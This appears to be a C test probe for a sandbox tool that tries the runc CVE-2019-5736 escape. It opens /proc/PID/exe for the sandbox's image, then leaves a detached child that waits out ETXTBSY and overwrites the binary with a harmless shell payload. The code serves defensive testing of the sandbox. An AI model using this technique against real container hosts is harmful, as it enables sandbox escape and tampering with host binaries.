/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * exe-probe: run inside a sandbox, try to overwrite the sbx image through
 * /proc/PID/exe (runc's CVE-2019-5736).
 *
 *   exe-probe IMAGE RESULT
 *
 * IMAGE is the sbx binary the sandbox was started from (a user-owned copy).
 * The probe opens /proc/PID/exe with O_PATH for every process it can see.
 * One whose file is IMAGE (same st_dev and st_ino) is "opened": a detached
 * child (its own session, so it outlives sbx when there is no pid
 * namespace) keeps the fd, waits until no process runs the image any more
 * (the kernel refuses writes with ETXTBSY until then), reopens
 * /proc/self/fd/N for writing and writes; it records what happened in
 * RESULT.  The probe's own ancestors whose name is sbx or bwrap (the
 * reaper, pid 1, the sbx parent) must be tried: each one refused is
 * "refused".  It prints, one per line:
 *
 *   refused PID ERRNO-NAME     an ancestor running sbx could not be opened
 *   opened PID                 the image was opened through /proc/PID/exe
 *   total ancestors=N opened=M
 *
 * With M > 0, RESULT gets "wrote" or "ERR <errno name>" once the child is done.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAX_ANCESTORS 16

/* The name (comm) and parent of @pid, from /proc/PID/stat. */
static int stat_of(int pid, char *comm, size_t len, int *ppid)
{
	char path[64], buf[512], *open_paren, *close_paren;
	FILE *f;
	size_t n;

	snprintf(path, sizeof(path), "/proc/%d/stat", pid);
	f = fopen(path, "re");
	if (!f)
		return -1;
	n = fread(buf, 1, sizeof(buf) - 1, f);
	fclose(f);
	buf[n] = '\0';
	open_paren = strchr(buf, '(');
	close_paren = strrchr(buf, ')');
	if (!open_paren || !close_paren || close_paren < open_paren)
		return -1;
	snprintf(comm, len, "%.*s", (int)(close_paren - open_paren - 1), open_paren + 1);
	return sscanf(close_paren + 2, "%*c %d", ppid) == 1 ? 0 : -1;
}

/* Our ancestors whose name is sbx or bwrap: the processes sbx keeps. */
static size_t sbx_ancestors(int *out)
{
	size_t n = 0;
	int pid = (int)getppid();

	while (pid > 0 && n < MAX_ANCESTORS) {
		char comm[64];
		int ppid;

		if (stat_of(pid, comm, sizeof(comm), &ppid) < 0)
			break;
		if (!strcmp(comm, "sbx") || !strcmp(comm, "bwrap"))
			out[n++] = pid;
		pid = ppid;
	}
	return n;
}

static bool is_image(int fd, const struct stat *image)
{
	struct stat st;

	return fstat(fd, &st) == 0 && st.st_dev == image->st_dev && st.st_ino == image->st_ino;
}

static void record(const char *result, const char *what)
{
	int fd = open(result, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);

	if (fd >= 0) {
		(void)!write(fd, what, strlen(what));
		close(fd);
	}
}

/* The detached child: once nothing runs the image, write into it. */
static void writer(int fd, const char *result)
{
	static const char payload[] = "#!/bin/sh\necho overwritten by the sandbox\n";
	char path[64], msg[64];
	int w = -1;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	/* Bounded: at most about 30 s for sbx to end. */
	for (int i = 0; i < 300; i++) {
		w = open(path, O_WRONLY | O_CLOEXEC);
		if (w >= 0 || errno != ETXTBSY)
			break;
		usleep(100 * 1000);
	}
	if (w >= 0 && pwrite(w, payload, sizeof(payload) - 1, 0) == (ssize_t)(sizeof(payload) - 1))
		snprintf(msg, sizeof(msg), "wrote\n");
	else
		snprintf(msg, sizeof(msg), "ERR %s\n", strerrorname_np(errno));
	record(result, msg);
	_exit(0);
}

/* Leave a child that outlives us and sbx, holding @fd only. */
static void detach_writer(int fd, const char *result)
{
	pid_t pid = fork();

	if (pid != 0)
		return;
	setsid();
	signal(SIGHUP, SIG_IGN);
	for (int i = 0; i < 1024; i++)
		if (i != fd)
			close(i);
	writer(fd, result);
}

static bool in_list(const int *list, size_t n, int pid)
{
	for (size_t i = 0; i < n; i++)
		if (list[i] == pid)
			return true;
	return false;
}

int main(int argc, char **argv)
{
	int anc[MAX_ANCESTORS], opened = 0;
	size_t n_anc;
	struct stat image;
	struct dirent *e;
	DIR *d;

	if (argc != 3 || stat(argv[1], &image) < 0) {
		fprintf(stderr, "usage: exe-probe IMAGE RESULT (IMAGE must exist)\n");
		return 2;
	}
	n_anc = sbx_ancestors(anc);
	d = opendir("/proc");
	if (!d)
		return 2;
	while ((e = readdir(d))) {
		char path[300];
		int pid = atoi(e->d_name), fd;

		if (pid <= 0 || pid == (int)getpid())
			continue;
		snprintf(path, sizeof(path), "/proc/%d/exe", pid);
		fd = open(path, O_PATH);
		if (fd < 0) {
			if (in_list(anc, n_anc, pid))
				printf("refused %d %s\n", pid, strerrorname_np(errno));
			continue;
		}
		if (is_image(fd, &image)) {
			printf("opened %d\n", pid);
			fflush(stdout);
			if (opened++ == 0)
				detach_writer(fd, argv[2]);
		} else if (in_list(anc, n_anc, pid)) {
			printf("refused %d not-the-image\n", pid);
		}
		close(fd);
	}
	closedir(d);
	printf("total ancestors=%zu opened=%d\n", n_anc, opened);
	return 0;
}
